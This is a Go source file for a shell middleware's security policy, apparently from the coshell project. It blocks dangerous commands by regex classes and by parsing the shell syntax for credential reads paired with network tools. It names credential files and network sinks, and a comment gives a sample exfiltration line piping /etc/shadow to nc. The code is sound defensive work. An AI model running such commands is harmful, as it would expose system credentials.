// Package security implements the middleware's two policies (§4.3):
// command policy (reject dangerous commands before they reach the
// backend) and response policy (scrub backend replies for leaked secrets
// or dangerous suggestions). Policy content is a fixed list of pattern
// classes, loaded from a TOML document so site operators can extend it.
package security

import (
	"bytes"
	"fmt"
	"os"
	"regexp"
	"strings"

	"github.com/BurntSushi/toml"
	"mvdan.cc/sh/v3/syntax"

	"github.com/coshell-dev/coshell"
	defaults "github.com/coshell-dev/coshell/default"
)

// Class names the four fixed pattern classes (§4.3). The class identifier
// itself — not a type name — is what the spec calls "policy content".
type Class string

const (
	ClassDestructiveFilesystem Class = "destructive-filesystem"
	ClassPrivilegeEscalation   Class = "privilege-escalation"
	ClassCredentialExposure    Class = "credential-exposure"
	ClassNetworkExfiltration   Class = "network-exfiltration"
)

type policyDoc struct {
	DestructiveFilesystem patternSet `toml:"destructive_filesystem"`
	PrivilegeEscalation   patternSet `toml:"privilege_escalation"`
	CredentialExposure    patternSet `toml:"credential_exposure"`
	NetworkExfiltration   patternSet `toml:"network_exfiltration"`
}

type patternSet struct {
	Patterns []string `toml:"patterns"`
}

type compiledClass struct {
	class Class
	res   []*regexp.Regexp
}

// Policy holds compiled command-policy patterns. System-control messages
// (status polls, cwd, verbosity, and provider updates) bypass it entirely;
// failure-context submissions are relayed but their embedded command is
// still checked (see systemControlPrefixes).
type Policy struct {
	classes []compiledClass
}

// systemControlPrefixes are the client → proxy message prefixes that the
// middleware never blocks, regardless of content — they are coordination
// traffic between front end and backend, not user commands (§4.3, §6).
//
// BASH_FAILED: is deliberately absent from this list: while the message
// *type* is always relayed as a category (the proxy never refuses to
// deliver failure-context traffic), the raw failing command line it
// embeds is still a command and must pass CheckCommand like any other —
// §8 Invariant #2 ("no command line forwarded to the backend matches any
// configured dangerous pattern") names no exception for the failure
// path. Callers parse BASH_FAILED messages and run their embedded Query
// through CheckCommand explicitly (see internal/middleware/proxy.go).
var systemControlPrefixes = []string{"STATUS", "CWD:", "VERBOSE:", "AI_PROVIDER:"}

// LoadPolicy reads a policy TOML document from path, falling back to the
// embedded default when path does not exist.
func LoadPolicy(path string) (*Policy, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		if !os.IsNotExist(err) {
			return nil, fmt.Errorf("security: read policy: %w", err)
		}
		data = defaults.DefaultPolicyTOML
	}
	return parsePolicy(data)
}

func parsePolicy(data []byte) (*Policy, error) {
	var doc policyDoc
	if err := toml.Unmarshal(data, &doc); err != nil {
		return nil, fmt.Errorf("security: parse policy: %w", err)
	}

	p := &Policy{}
	for _, entry := range []struct {
		class Class
		set   patternSet
	}{
		{ClassDestructiveFilesystem, doc.DestructiveFilesystem},
		{ClassPrivilegeEscalation, doc.PrivilegeEscalation},
		{ClassCredentialExposure, doc.CredentialExposure},
		{ClassNetworkExfiltration, doc.NetworkExfiltration},
	} {
		cc := compiledClass{class: entry.class}
		for _, pat := range entry.set.Patterns {
			re, err := regexp.Compile("(?i)" + pat)
			if err != nil {
				return nil, fmt.Errorf("security: bad pattern %q in class %s: %w", pat, entry.class, err)
			}
			cc.res = append(cc.res, re)
		}
		p.classes = append(p.classes, cc)
	}
	return p, nil
}

// WriteDefaultPolicyFile copies the embedded default policy document to
// path if it does not already exist, so it is discoverable and editable.
func WriteDefaultPolicyFile(path string) error {
	if _, err := os.Stat(path); err == nil {
		return nil
	}
	return os.WriteFile(path, defaults.DefaultPolicyTOML, 0o644)
}

// CheckCommand applies the command policy (§4.3 item 1) to a raw command
// line. System-control messages are never checked — callers should route
// those around CheckCommand entirely, but IsSystemControl is exposed so a
// caller holding a raw wire line can make that routing decision.
func (p *Policy) CheckCommand(line string) coshell.SecurityVerdict {
	if reason, blocked := p.matchRegex(line); blocked {
		return coshell.Block(reason)
	}
	if reason, blocked := p.matchStructural(line); blocked {
		return coshell.Block(reason)
	}
	return coshell.Allow(RequireApprovalWarning(line))
}

// IsSystemControl reports whether line is a system-control message whose
// envelope always bypasses command policy as a category (§4.3). This does
// not cover BASH_FAILED: — that message type is always relayed, but its
// embedded command text must still be checked (see systemControlPrefixes).
func IsSystemControl(line string) bool {
	for _, prefix := range systemControlPrefixes {
		if strings.HasPrefix(line, prefix) {
			return true
		}
	}
	return false
}

func (p *Policy) matchRegex(line string) (string, bool) {
	for _, cc := range p.classes {
		for _, re := range cc.res {
			if re.MatchString(line) {
				return string(cc.class), true
			}
		}
	}
	return "", false
}

// matchStructural walks the parsed shell AST to catch credential reads
// combined with an outbound network command, which plain regex handles
// poorly — for example `cat /etc/shadow | nc host port`, where the
// dangerous signal is the combination, not either command alone. Such a
// line is blocked as network-exfiltration. The two commands only need to
// appear in the same line; they need not be joined by a pipe. Falls back
// silently to no additional match on parse failure; matchRegex already ran.
func (p *Policy) matchStructural(line string) (string, bool) {
	parser := syntax.NewParser(syntax.Variant(syntax.LangBash))
	prog, err := parser.Parse(strings.NewReader(line), "")
	if err != nil {
		return "", false
	}

	var credentialSource, networkSink bool
	syntax.Walk(prog, func(node syntax.Node) bool {
		call, ok := node.(*syntax.CallExpr)
		if !ok || len(call.Args) == 0 {
			return true
		}
		name := wordString(call.Args[0])
		switch name {
		case "cat", "grep":
			for _, arg := range call.Args[1:] {
				a := wordString(arg)
				if strings.Contains(a, "shadow") || strings.Contains(a, "passwd") ||
					strings.Contains(a, "id_rsa") || strings.Contains(a, ".pem") {
					credentialSource = true
				}
			}
		case "nc", "curl", "wget", "ssh", "scp":
			networkSink = true
		}
		return true
	})

	if credentialSource && networkSink {
		return string(ClassNetworkExfiltration), true
	}
	return "", false
}

func wordString(w *syntax.Word) string {
	if w == nil {
		return ""
	}
	var buf bytes.Buffer
	printer := syntax.NewPrinter()
	printer.Print(&buf, w)
	return buf.String()
}
